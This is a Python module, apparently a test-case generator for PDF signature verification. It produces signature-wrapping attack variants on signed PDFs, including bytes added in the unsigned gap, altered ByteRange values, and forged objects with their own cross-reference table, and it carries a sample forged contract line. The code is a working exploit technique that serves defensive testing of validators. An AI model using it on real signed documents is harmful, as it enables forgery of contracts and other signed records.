"""Signature wrapping (Mladenov et al., "1 Trillion Dollar Refund", 2019): unsigned bytes where nobody hashes.

All but the last keep the digest right: only a rule on the gap itself tells them from a genuine file.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from io import BytesIO

from pyhanko.pdf_utils.reader import PdfFileReader

Attack = tuple[str, bytes]
RANGE = re.compile(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)\][ ]*")
FALSE = b"BT /F1 14 Tf 60 740 Td (Contrat, page 1 : la somme de 9 999 XPF est due.) Tj ET"


def wrapped(raw: bytes) -> Iterator[Attack]:
    """Attacks on the first signature of a file."""
    found, first, second, rest = _first(raw)
    gap = raw[first:second]
    value = gap[1:-1].rstrip(b"0")
    value += b"0" * (len(value) % 2)
    for name, put in {
        "bytes after the value": b"<" + value + b">/Faux (contenu ajoute) ",
        "a second byte range in the gap": b"<" + value + b">/ByteRange [0 %d %d %d]" % (first, second, rest),
        "a second value in the gap": b"<" + value[:-2] + b">/Contents<" + value + b">",
        "comment in the gap": b"<" + value + b">%faux\n",
    }.items():
        if len(put) <= len(gap):
            yield f"wrapping: {name}", raw[:first] + put.ljust(len(gap), b" ") + raw[second:]
    octets = bytes.fromhex(value.decode()).replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    octets = octets.replace(b"\r", b"\\r")
    literal = b"(" + octets + b")"
    yield "wrapping: value as a literal string", raw[:first] + literal.ljust(len(gap), b" ") + raw[second:]
    spaced = b"<" + value[:20] + b" \n" + value[20:] + b">"
    yield "wrapping: white space in the value", raw[:first] + spaced.ljust(len(gap), b"\n") + raw[second:]
    other = b"<" + b"00" * 8 + b">(" + octets[: (len(gap) - 20) // 4]
    yield "wrapping: two strings in the gap", raw[:first] + (other + b")").ljust(len(gap), b" ") + raw[second:]
    copy = b"\n9999 0 obj\n<</Type /Catalog>>\nendobj\n"
    moved = raw[:second] + copy + raw[second:]
    yield "wrapping: signed end moved", ranged(moved, found, (0, first, second + len(copy), rest))
    yield "wrapping: gap made larger", ranged(raw, found, (0, first, second + 100, rest - 100))
    yield "wrapping: gap made smaller", ranged(raw, found, (0, first + 2, second, rest))


def relocated(raw: bytes, changed: dict[int, bytes]) -> Iterator[Attack]:
    """The attack itself: the signed end of the file moves back, and forged objects with their own table stand in the gap.

    The last table of the file lies after the gap, at an offset that its end names and that now falls among the forged
    bytes. `changed` are the objects to forge. For a file whose last revision is the signed one.
    """
    _, first, second, rest = _first(raw)
    start = int(raw[raw.rindex(b"startxref") + 9 :].split()[0])
    signature = dictionary_number(raw)
    value = raw[first:second]
    octets = bytes.fromhex(value[1:-1].rstrip(b"0").decode() + "0" * (len(value[1:-1].rstrip(b"0")) % 2))
    literal = b"(" + b"".join(b"\\%03o" % one for one in octets) + b")"
    for name, written, more in (
        ("value as it was", value, {}),
        ("value as a literal string", literal, {}),
        ("value in another object", b"9000 0 R", {9000: value}),
    ):
        forged = {**changed, **more}
        shift = 0
        body = b""
        # the new byte range holds the length of what it stands in: twice round is enough, for its width is fixed
        for _ in range(2):
            numbers = b"[0 %d %010d %d]" % (first, second + shift, rest)
            entries = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange %s/Contents %s>>"
            body = _inside(raw, {**forged, signature: entries % (numbers, written)}, start, second, shift)
            shift = len(body)
        yield f"wrapping: forged objects in the gap, {name}", raw[:second] + body + raw[second:]


def ranged(raw: bytes, found: re.Match[bytes], numbers: tuple[int, int, int, int]) -> bytes:
    """Return the file with other numbers in the byte range that was found."""
    start, end = found.span()
    return raw[:start] + (b"/ByteRange [%d %d %d %d]" % numbers).ljust(end - start)[: end - start] + raw[end:]


def _first(raw: bytes) -> tuple[re.Match[bytes], int, int, int]:
    found = RANGE.search(raw)
    assert found is not None
    _, first, second, rest = (int(one) for one in found.groups())
    return found, first, second, rest


def dictionary_number(raw: bytes) -> int:
    """Return the number of the first signature dictionary."""
    reader = PdfFileReader(BytesIO(raw), strict=False)
    fields = [one.get_object() for one in reader.root["/AcroForm"]["/Fields"]]
    return next(int(one.raw_get("/V").idnum) for one in fields if "/V" in one and "/ByteRange" in one["/V"])


def _inside(raw: bytes, objects: dict[int, bytes], start: int, second: int, shift: int) -> bytes:
    """Return the bytes to stand at `second`, with the forged table at the offset `start`."""
    body, rows = b"\n", {}
    reader = PdfFileReader(BytesIO(raw), strict=False)
    for number, content in objects.items():
        rows[number] = second + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    if second + len(body) > start:
        body = b"\n" * (start - second)  # the table comes first, the objects behind it
        rows = {}
    body = body.ljust(start - second, b"\n")
    for number in reader.xrefs.explicit_refs_in_revision(reader.total_revisions - 1):
        place = reader.xrefs[number]
        if number.idnum not in objects and isinstance(place, int):
            rows[number.idnum] = place if place < second else place + shift
    behind = _table(rows | dict.fromkeys(objects, 0), reader)
    if not set(objects) <= set(rows):
        later = b""
        for number, content in objects.items():
            rows[number] = start + len(behind) + len(later)
            later += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        return body + _table(rows, reader) + later
    return body + _table(rows, reader)


def _table(rows: dict[int, int], reader: PdfFileReader) -> bytes:
    out = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, rows[number]) for number in sorted(rows))
    root = reader.root_ref
    previous = int(reader.trailer["/Prev"])
    size = max([int(reader.trailer["/Size"]), *(number + 1 for number in rows)])
    return out + b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n0\n%%%%EOF\n" % (size, root.idnum, previous)
